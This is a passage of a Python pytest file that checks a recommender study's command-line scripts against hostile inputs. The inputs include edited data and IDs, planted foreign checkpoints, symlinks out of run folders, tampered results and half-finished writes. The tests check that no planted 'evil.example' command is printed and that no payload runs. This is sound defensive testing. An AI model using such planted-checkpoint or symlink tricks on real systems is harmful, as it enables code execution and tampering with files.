        (root / "link").symlink_to(REPO / "results", target_is_directory=True)
        (root / "plots-link").symlink_to(REPO / "plots", target_is_directory=True)


TABLE = {
    "custom data": CUSTOM_DATA,
    "flags": ABSURD_FLAGS,
    "outputs": OUTPUTS_ONTO_INPUTS,
    "semantic ids": HAND_EDITED_IDS,
    "checkpoints": FOREIGN_CHECKPOINTS,
    "results": RESULTS_FILES,
    "overrides": OVERRIDES,
    "recommend": RECOMMEND,
    "preparation": PREPARATION,
    "resumes": RESUMES,
    "run folders": RUN_FOLDERS,
}
# The groups whose cases need the `trained` checkpoints (trained once, on first use).
NEEDS_TRAINED = ("recommend", "resumes")


def _case_root(
    generated: Path, root: Path, group: str, case: str, trained: dict[str, Path] | None = None
) -> tuple[Path, Path, Path]:
    """The case's own copy of the data, good outputs and new texts, damaged as the case says."""
    data = Path(shutil.copytree(generated, root / "data"))
    out, new = good_outputs(root), root / "new.txt"
    new.write_text("a new lipstick\nan odd shampoo\n")
    if group == "semantic ids":
        edit = next(e for name, (e, _) in IDS_EDITS.items() if case.endswith(name))
        edit_json(data / "semantic_ids.json", edit)
    elif group == "checkpoints":
        _plant_checkpoint(case, Path(CKPT.replace("OUT", str(out)).replace("DATANAME", data.name)),
                          root / "pwned")  # fmt: skip
    elif group == "results":
        _results_file(case, out)
    elif group == "custom data":
        _custom_inputs(root / "custom")
    else:
        _round3_files(group, root, out, trained)
    return data, out, new


def _command(script: str, flags: tuple[str, ...], data: Path, out: Path, new: Path):
    root = data.parent
    fill = {"DATA": str(data), "OUT": str(out), "NEW": str(new), "PREPARED": str(root / "new")}
    flags = tuple(
        fill.get(f)
        or f.replace("DATA/", f"{data}/")
        .replace("NEW", str(new))
        .replace("CUSTOM/", f"{root}/custom/")
        .replace("ROOT/", f"{root}/")
        for f in flags
    )
    if script == "summarize_results.py":
        return (script, "--results-dir", str(out), *flags)
    if script in ("prepare_data.py", "recommend.py"):
        return (script, *flags, "--quiet") if script == "prepare_data.py" else (script, *flags)
    if "--run-dir" in flags:  # the run folder takes every output
        return (script, "--data-dir", str(data), "--device", "cpu", "--quiet", *flags)
    return script_command(script, data, out, *flags)


def _files(root: Path) -> dict[str, str]:
    return {name: hashlib.sha256(body).hexdigest() for name, body in snapshot(root).items()}


def _study_files() -> dict[str, str]:
    """The study's own results and plots (a run folder through a symlink could reach them)."""
    return {f"{d}/{k}": v for d in ("results", "plots") for k, v in _files(REPO / d).items()}


# Raw control characters in a script's output: text read from a file printed unescaped.
RAW_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


@pytest.mark.parametrize("group", sorted(TABLE))
def test_the_hostile_table(generated, tmp_path, group, request):
    """Every case of the group: its exit code, one error line with its fragments (flag or file,
    and the fix; a success case: its fragments in stdout), no traceback, no raw control
    character or planted command in the output, no payload run, every file that was there (and
    the study's results/ and plots/) unchanged and nothing new but split caches, within
    MEMORY_CEILING and HANG_LIMIT."""
    cases = TABLE[group]
    trained = request.getfixturevalue("trained") if group in NEEDS_TRAINED else None
    roots = {case: tmp_path / f"case{i}" for i, case in enumerate(sorted(cases))}
    commands, before, study = [], {}, _study_files()
    for case, root in roots.items():
        script, flags, _, _ = cases[case]
        data, out, new = _case_root(generated, root, group, case, trained)
        before[case] = _files(root)
        commands.append(_command(script, flags, data, out, new))
    problems = []
    for (case, root), proc in zip(roots.items(), run_all(commands)):
        _, _, code, fragments = cases[case]
        text = proc.stdout + proc.stderr
        last = proc.stderr.strip().splitlines()[-1] if proc.stderr.strip() else ""
        shown = text if "FAIL" in fragments else proc.stdout if code == 0 else last
        after = _files(root)
        wrong = [
            proc.returncode != code and f"exit {proc.returncode}",
            "Traceback" in text and "traceback",
            code and "FAIL" not in fragments and "error:" not in last and "no error line",
            any(f not in shown for f in fragments) and f"missing {fragments} in {shown[-300:]!r}",
            RAW_CONTROL.search(text) and "raw control characters in the output",
            "evil.example" in text and "a planted command printed",
            (root / "pwned").exists() and "payload ran",
            any(after.get(k) != v for k, v in before[case].items()) and "a file changed",
            any(k not in before[case] and "/splits/" not in k for k in after) and "new files",
        ]
        problems += [f"{group}: {case}: {w}" for w in wrong if w]
    if _study_files() != study:
        problems.append(f"{group}: the study's results/ or plots/ changed")
    assert not problems, "\n".join(problems)


def test_big_integer_ids_stay_apart(tmp_path):
    """Round 3's success case of your own catalogue (seen to fail on 1489060, where the two were
    merged through float64): the JSON numbers 2**53 + 1 and 2**53 in a user column that also
    holds 1.5 stay two users, each ID exactly as written. (The same IDs in a CSV were already
    kept apart on 1489060: CSV fields are read as text.)"""
    from utils.data.load import load_dataset

    users = [9007199254740993, 9007199254740992, 1.5]
    inputs = tmp_path / "in"
    inputs.mkdir()
    rows = [{"user_id": u, "item_id": i, "timestamp": 100 + i} for u in users for i in (1, 2)]
    (inputs / "inter.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    (inputs / "items.csv").write_text("item_id,title\n1,one\n2,two\n")
    before = snapshot(inputs)
    flags = ("--interactions", str(inputs / "inter.jsonl"), "--items", str(inputs / "items.csv"))
    proc = run_cli(
        "prepare_data.py", "--dataset", "custom", *flags, "--data-dir", str(tmp_path / "out"),
        "--k-core", "1", "--quiet", memory=MEMORY_CEILING, timeout=HANG_LIMIT,
    )  # fmt: skip
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr
    assert sorted(load_dataset(tmp_path / "out").user_ids) == sorted(map(str, users))
    assert snapshot(inputs) == before


# ---------------------------------------------------------------- --verify on edited results


@pytest.fixture(scope="module")
def mf_results(generated, tmp_path_factory) -> Path:
    """An MF results file of two seeds with saved predictions (1 epoch on the generated data)."""
    out = tmp_path_factory.mktemp("mf_run")
    flags = ("--models", "mf_id", "--seeds", "0", "1", "--epochs", "1", "--save-predictions")
    proc = run_cli(*script_command("mf_train_eval.py", generated, out, *flags))
    assert proc.returncode == 0, proc.stderr
    return out / "mf_train_eval.json"


def _made_up_metric(d: dict) -> None:
    d["models"]["mf_id"]["seeds"]["0"]["test"]["overall"]["ndcg@10"] = 0.99


def _one_missing_one_edited(d: dict) -> None:
    seeds = d["models"]["mf_id"]["seeds"]
    seeds["0"]["predictions"]["pointwise"]["file"] += ".gone"
    seeds["1"]["test"]["overall"]["auc"] += 0.01


# edit of the results -> (exit code of --verify --allow-missing, fragments of its output)
VERIFY_EDITS: dict[str, tuple[Callable[[dict], None], int, tuple[str, ...]]] = {
    "a made-up ndcg@10 in a seed's block": (
        _made_up_metric, 1, ("FAIL", "ndcg@10, which no saved prediction recomputes")),
    "one seed's predictions missing, the other's metric edited": (
        _one_missing_one_edited, 1, ("mf_id seed 1, overall auc", "partly checked")),
}  # fmt: skip


def test_verify_recomputes_what_it_can_and_refuses_what_it_cannot(mf_results, tmp_path):
    """--verify --allow-missing: a missing predictions file never hides an edited metric beside
    it, and a number that no prediction recomputes is refused, never passed."""
    folders = {case: tmp_path / f"case{i}" for i, case in enumerate(sorted(VERIFY_EDITS))}
    for case, folder in folders.items():
        folder.mkdir()
        shutil.copy(mf_results, folder)
        edit_json(folder / mf_results.name, VERIFY_EDITS[case][0])
    before = {case: snapshot(folder) for case, folder in folders.items()}
    commands = [
        ("summarize_results.py", "--results-dir", str(f), "--verify", "--allow-missing")
        for f in folders.values()
    ]
    for (case, folder), proc in zip(folders.items(), run_all(commands)):
        _, code, fragments = VERIFY_EDITS[case]
        assert proc.returncode == code and "Traceback" not in proc.stderr, (case, proc.stdout)
        assert all(f in proc.stdout for f in fragments), (case, proc.stdout)
        assert snapshot(folder) == before[case]


# ---------------------------------------------------------------- run folders

PREDICTIONS = "mf_results_ml.predictions"  # the predictions folder of MF on a folder named ml
# A user's files in a --run-dir (relative name -> bytes; RUN stands for the folder) -> the run's
# exit code and fragments of its error line. Every one of them must stay as it was, but for the
# results file the run is asked to write.
RUN_FOLDER_FILES: dict[str, tuple[dict[str, bytes], int, tuple[str, ...]]] = {
    "a file with a run-tag name": (
        {f"{PREDICTIONS}/my-notes-seed1.aaaaaaaaaaaa.npz": b"my notes"}, 0, ()),
    "a file named like the run's own predictions": (
        {f"{PREDICTIONS}/mf_id-seed0-pointwise.0123456789ab.npz": b"mine"}, 0, ()),
    "an old results file naming a file of the user's": (
        {f"{PREDICTIONS}/notes.npz": b"my notes",
         "mf_results_ml.json": json.dumps({"models": {"mf_id": {"predictions": {
             "file": f"RUN/{PREDICTIONS}/notes.npz", "sha256": "0" * 64}}}}).encode()}, 0, ()),
    "a file of the user's at the manifest's name": (
        {f"{PREDICTIONS}/{MANIFEST}": b'{"my": "settings"}'}, 1, (MANIFEST, "move it out of")),
}  # fmt: skip


def test_a_run_folder_keeps_every_file_the_run_did_not_write(tmp_path):
    """MF with --run-dir and --save-predictions on a folder holding the user's files: the run
    deletes only files it wrote (its manifest lists them), whatever their names or an old
    results file say, and a file where its manifest would go is refused, never overwritten."""
    data = write_movielens(tmp_path / "ml", n_users=20, n_items=24)
    runs = {case: tmp_path / f"case{i}" for i, case in enumerate(sorted(RUN_FOLDER_FILES))}
    for case, run in runs.items():
        for name, body in RUN_FOLDER_FILES[case][0].items():
            (run / name).parent.mkdir(parents=True, exist_ok=True)
            (run / name).write_bytes(body.replace(b"RUN", str(run).encode()))
    before = {case: snapshot(run) for case, run in runs.items()}
    flags = ("--models", "mf_id", "--epochs", "1", "--save-predictions", "--device", "cpu")
    commands = [
        ("mf_train_eval.py", "--data-dir", str(data), *flags, "--quiet", "--run-dir", str(run))
        for run in runs.values()
    ]
    problems = []
    for (case, run), proc in zip(runs.items(), run_all(commands)):
        _, code, fragments = RUN_FOLDER_FILES[case]
        last = proc.stderr.strip().splitlines()[-1] if proc.stderr.strip() else ""
        results = run / "mf_results_ml.json"
        named = list(named_files(read_json(results))) if code == 0 and results.exists() else []
        after = snapshot(run)
        kept = {k: v for k, v in before[case].items() if k != results.name or code}
        wrong = [
            proc.returncode != code and f"exit {proc.returncode}",
            "Traceback" in proc.stderr and "traceback",
            any(f not in last for f in (*fragments, "error:" if code else "")) and repr(last),
            not all(Path(f).is_file() for f in named) and "a named predictions file is missing",
            any(after.get(k) != v for k, v in kept.items()) and "a file of the user's changed",
        ]
        problems += [f"{case}: {w}" for w in wrong if w]
    assert not problems, "\n".join(problems)


# Which write the file system cuts short (a part of the temporary file's name) -> the file the
# error line names.
CUT_WRITES = {
    "the split cache": ("split-", "splits/split-"),
    "a predictions file": ("-seed0-pointwise.", "-seed0-pointwise."),
    "a checkpoint": (".pt.", ".pt"),
    "a plot": (".png.", ".png"),
    "the results file": ("r.json.", "r.json"),
}


@pytest.mark.parametrize("cut", sorted(CUT_WRITES))
def test_a_write_cut_short_is_one_error_and_leaves_no_cut_file(tmp_path, monkeypatch, capsys, cut):
    """A file system that stores half of a write and reports success: the run ends in one error
    line naming the file, nothing cut is renamed into place and no temporary file is left."""
    import mf_train_eval
    from utils.runtime.errors import run_script

    part, named = CUT_WRITES[cut]
    data, out = write_movielens(tmp_path / "ml", n_users=20, n_items=24), tmp_path / "out"
    before = snapshot(data)
    write = Path.write_bytes

    def cut_short(path: Path, body: bytes) -> int:
        return write(path, body[: len(body) // 2] if part in path.name else body) and len(body)

    monkeypatch.setattr(Path, "write_bytes", cut_short)
    flags = ["--data-dir", str(data), "--models", "mf_id", "--epochs", "1", "--save-predictions"]
    places = ["--out", str(out / "r.json"), "--plot-dir", str(out), "--checkpoint-dir", str(out)]
    with pytest.raises(SystemExit) as exit_:
        run_script(lambda: mf_train_eval.main([*flags, *places, "--device", "cpu", "--quiet"]))
    err = capsys.readouterr().err
    assert exit_.value.code == 1 and "Traceback" not in err and len(err.splitlines()) == 1, err
    assert err.startswith("error: short write (") and named in err, err
    files = [*snapshot(data), *(snapshot(out) if out.exists() else {})]
    files = [f for f in files if not f.endswith(".lock")]  # the --out lock, held until exit
    cut_or_temporary = [f for f in files if part in f"{Path(f).name}." or TEMP_TAG in f]
    assert not cut_or_temporary, files
    assert {k: v for k, v in snapshot(data).items() if k in before} == before
